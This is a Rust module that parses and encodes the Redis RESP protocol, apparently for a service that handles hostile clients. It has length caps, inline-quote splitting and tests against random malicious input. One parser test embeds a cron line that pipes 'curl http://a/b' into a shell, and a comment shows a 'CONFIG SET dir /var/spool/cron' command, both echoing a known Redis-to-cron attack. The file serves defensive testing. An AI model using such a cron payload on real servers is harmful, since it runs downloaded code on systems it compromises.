//! RESP, the Redis wire format: pure parsers for what a client sends (multibulk arrays of bulk
//! strings, and inline commands typed into `nc`/`telnet`) and encoders for the replies.
//!
//! WHY pure: these read attacker bytes, so they are fuzzed (`fuzz/fuzz_targets/redis_resp.rs`)
//! and unit-tested with hostile input; the handler only moves bytes between them and the session.
//! Every length an attacker declares is checked against a cap before anything is allocated:
//! the argument count against [`MAX_ARGS`], a bulk length against [`MAX_BULK`] (Redis's own
//! `proto-max-bulk-len`); the handler then buffers only small arguments and streams big ones.

/// Most arguments in one command (Redis allows more; no attack needs them).
pub const MAX_ARGS: usize = 1024;
/// Largest bulk string a client may announce (Redis's default `proto-max-bulk-len`, 512 MiB).
/// Never allocated: the session's byte cap ends the connection long before.
pub const MAX_BULK: u64 = 512 * 1024 * 1024;

/// A protocol error, with the text Redis answers it with (then Redis closes the connection).
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum RespError {
    #[error("Protocol error: invalid multibulk length")]
    MultibulkLength,
    #[error("Protocol error: invalid bulk length")]
    BulkLength,
    #[error("Protocol error: expected '$'")]
    ExpectedDollar,
    #[error("Protocol error: unbalanced quotes in request")]
    Unbalanced,
}

/// How a request starts: the first line a client sends for each command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Start {
    /// `*N`: N bulk strings follow.
    Multibulk(usize),
    /// An inline command, already split into arguments.
    Inline(Vec<Vec<u8>>),
    /// Nothing to run (an empty line, `*0`, `*-1`).
    Empty,
}

/// Parses the first line of a request (without its line ending).
pub fn parse_start(line: &[u8]) -> Result<Start, RespError> {
    if let Some(rest) = line.strip_prefix(b"*") {
        let n = parse_int(rest).ok_or(RespError::MultibulkLength)?;
        if n <= 0 {
            return Ok(Start::Empty);
        }
        if n as u64 > MAX_ARGS as u64 {
            return Err(RespError::MultibulkLength);
        }
        return Ok(Start::Multibulk(n as usize));
    }
    let args = split_args(line)?;
    if args.is_empty() {
        Ok(Start::Empty)
    } else {
        Ok(Start::Inline(args))
    }
}

/// Parses a bulk header `$LEN` (without its line ending) into the length of the string.
pub fn parse_bulk_len(line: &[u8]) -> Result<u64, RespError> {
    let rest = line.strip_prefix(b"$").ok_or(RespError::ExpectedDollar)?;
    match parse_int(rest) {
        Some(n) if (0..=MAX_BULK as i64).contains(&n) => Ok(n as u64),
        _ => Err(RespError::BulkLength),
    }
}

/// A decimal integer as Redis reads one (optional `-`, digits only, fits in i64).
fn parse_int(b: &[u8]) -> Option<i64> {
    if b.is_empty() || b.len() > 20 {
        return None;
    }
    std::str::from_utf8(b).ok()?.parse().ok()
}

/// Splits an inline command like Redis's `sdssplitargs`: words separated by spaces, `"..."`
/// with C escapes (`\n`, `\xHH`, ...) and `'...'` with only `\'` escaped. A closing quote must
/// be followed by a space or the end.
pub fn split_args(line: &[u8]) -> Result<Vec<Vec<u8>>, RespError> {
    let mut args = Vec::new();
    let mut i = 0;
    let n = line.len();
    loop {
        while i < n && line[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= n {
            return Ok(args);
        }
        if args.len() >= MAX_ARGS {
            return Err(RespError::MultibulkLength);
        }
        let mut cur = Vec::new();
        let mut in_dq = false;
        let mut in_sq = false;
        loop {
            if in_dq {
                if i >= n {
                    return Err(RespError::Unbalanced);
                }
                let c = line[i];
                if c == b'\\'
                    && i + 3 < n
                    && line[i + 1] == b'x'
                    && hex(line[i + 2]).is_some()
                    && hex(line[i + 3]).is_some()
                {
                    cur.push(hex(line[i + 2]).unwrap_or(0) * 16 + hex(line[i + 3]).unwrap_or(0));
                    i += 3;
                } else if c == b'\\' && i + 1 < n {
                    i += 1;
                    cur.push(match line[i] {
                        b'n' => b'\n',
                        b'r' => b'\r',
                        b't' => b'\t',
                        b'b' => 8,
                        b'a' => 7,
                        other => other,
                    });
                } else if c == b'"' {
                    if i + 1 < n && !line[i + 1].is_ascii_whitespace() {
                        return Err(RespError::Unbalanced);
                    }
                    i += 1;
                    break;
                } else {
                    cur.push(c);
                }
            } else if in_sq {
                if i >= n {
                    return Err(RespError::Unbalanced);
                }
                let c = line[i];
                if c == b'\\' && i + 1 < n && line[i + 1] == b'\'' {
                    i += 1;
                    cur.push(b'\'');
                } else if c == b'\'' {
                    if i + 1 < n && !line[i + 1].is_ascii_whitespace() {
                        return Err(RespError::Unbalanced);
                    }
                    i += 1;
                    break;
                } else {
                    cur.push(c);
                }
            } else {
                if i >= n {
                    break;
                }
                match line[i] {
                    b' ' | b'\n' | b'\r' | b'\t' | 0 => break,
                    b'"' => in_dq = true,
                    b'\'' => in_sq = true,
                    c => cur.push(c),
                }
            }
            i += 1;
        }
        args.push(cur);
    }
}

fn hex(c: u8) -> Option<u8> {
    (c as char).to_digit(16).map(|d| d as u8)
}

/// One argument as Redis's `MONITOR` and logs show it: quoted, with escapes for anything that
/// is not printable ASCII, at most `max` bytes of the original (then `...`).
pub fn quote(arg: &[u8], max: usize) -> String {
    let mut s = String::with_capacity(arg.len().min(max) + 2);
    s.push('"');
    for &c in arg.iter().take(max) {
        match c {
            b'\\' => s.push_str("\\\\"),
            b'"' => s.push_str("\\\""),
            b'\n' => s.push_str("\\n"),
            b'\r' => s.push_str("\\r"),
            b'\t' => s.push_str("\\t"),
            0x20..=0x7e => s.push(c as char),
            _ => s.push_str(&format!("\\x{c:02x}")),
        }
    }
    if arg.len() > max {
        s.push_str("...");
    }
    s.push('"');
    s
}

/// A whole command as one line (`"CONFIG" "SET" "dir" "/var/spool/cron"`).
pub fn command_line(args: &[Vec<u8>], max_arg: usize) -> String {
    let parts: Vec<String> = args.iter().take(64).map(|a| quote(a, max_arg)).collect();
    let mut line = parts.join(" ");
    if args.len() > 64 {
        line.push_str(&format!(" ... ({} arguments)", args.len()));
    }
    line
}

/// `+text\r\n`
pub fn simple(text: &str) -> Vec<u8> {
    format!("+{text}\r\n").into_bytes()
}

/// `-text\r\n` (`text` starts with the error code, `ERR ...`).
pub fn error(text: &str) -> Vec<u8> {
    // An error line may not contain a line break.
    let clean: String = text.chars().map(|c| if c == '\r' || c == '\n' { ' ' } else { c }).collect();
    format!("-{clean}\r\n").into_bytes()
}

/// `:n\r\n`
pub fn integer(n: i64) -> Vec<u8> {
    format!(":{n}\r\n").into_bytes()
}

/// `$len\r\nbytes\r\n`
pub fn bulk(data: &[u8]) -> Vec<u8> {
    let mut v = format!("${}\r\n", data.len()).into_bytes();
    v.extend_from_slice(data);
    v.extend_from_slice(b"\r\n");
    v
}

/// `$-1\r\n`
pub fn nil() -> Vec<u8> {
    b"$-1\r\n".to_vec()
}

/// An array of bulk strings.
pub fn array<T: AsRef<[u8]>>(items: &[T]) -> Vec<u8> {
    let mut v = format!("*{}\r\n", items.len()).into_bytes();
    for i in items {
        v.extend_from_slice(&bulk(i.as_ref()));
    }
    v
}

/// An array of already encoded replies.
pub fn array_of(items: &[Vec<u8>]) -> Vec<u8> {
    let mut v = format!("*{}\r\n", items.len()).into_bytes();
    for i in items {
        v.extend_from_slice(i);
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn starts_and_bulk_headers() {
        assert_eq!(parse_start(b"*3"), Ok(Start::Multibulk(3)));
        assert_eq!(parse_start(b"*0"), Ok(Start::Empty));
        assert_eq!(parse_start(b"*-1"), Ok(Start::Empty));
        assert_eq!(parse_start(b"*x"), Err(RespError::MultibulkLength));
        assert_eq!(parse_start(b"*1025"), Err(RespError::MultibulkLength));
        assert_eq!(parse_start(b"*99999999999999999999999"), Err(RespError::MultibulkLength));
        assert_eq!(parse_start(b""), Ok(Start::Empty));
        assert_eq!(parse_start(b"PING"), Ok(Start::Inline(vec![b"PING".to_vec()])));
        assert_eq!(parse_bulk_len(b"$4"), Ok(4));
        assert_eq!(parse_bulk_len(b"$-1"), Err(RespError::BulkLength));
        assert_eq!(parse_bulk_len(b"$536870913"), Err(RespError::BulkLength));
        assert_eq!(parse_bulk_len(b"4"), Err(RespError::ExpectedDollar));
    }

    #[test]
    fn inline_quoting_like_sdssplitargs() {
        let a = split_args(br#"set x "\n*/1 * * * * curl http://a/b|sh\n" 'it\'s'"#).unwrap();
        assert_eq!(
            a,
            vec![b"set".to_vec(), b"x".to_vec(), b"\n*/1 * * * * curl http://a/b|sh\n".to_vec(), b"it's".to_vec()]
        );
        assert_eq!(split_args(br#"a "\x41\x4a" b"#).unwrap()[1], b"AJ");
        assert_eq!(split_args(br#"a "b"#), Err(RespError::Unbalanced));
        assert_eq!(split_args(br#"a "b"c"#), Err(RespError::Unbalanced));
        assert_eq!(split_args(b"   ").unwrap(), Vec::<Vec<u8>>::new());
    }

    #[test]
    fn quoting_and_replies() {
        assert_eq!(quote(b"a\n\"\x01", 16), r#""a\n\"\x01""#);
        assert_eq!(quote(b"abcdef", 3), r#""abc...""#);
        assert_eq!(command_line(&[b"GET".to_vec(), b"k".to_vec()], 64), r#""GET" "k""#);
        assert_eq!(array(&["a", "bc"]), b"*2\r\n$1\r\na\r\n$2\r\nbc\r\n");
        assert_eq!(error("ERR a\r\nb"), b"-ERR a  b\r\n");
        assert_eq!(integer(-3), b":-3\r\n");
    }

    #[test]
    fn hostile_input_never_panics() {
        for b in crate::protocols::hostile::random_inputs(0x7ed1_5000_6379_0001, 20_000, 200, false) {
            let _ = parse_start(&b);
            let _ = parse_bulk_len(&b);
            if let Ok(args) = split_args(&b) {
                assert!(args.len() <= MAX_ARGS);
                let _ = command_line(&args, 32);
            }
        }
        for b in crate::protocols::hostile::random_inputs(0x7ed1_5000_6379_0002, 20_000, 120, true) {
            let _ = split_args(&b);
            let _ = parse_start(&b);
        }
        let good = br#"set "a\x41" 'b\'c' "\n""#;
        for t in crate::protocols::hostile::truncations(good) {
            let _ = split_args(t);
        }
    }
}
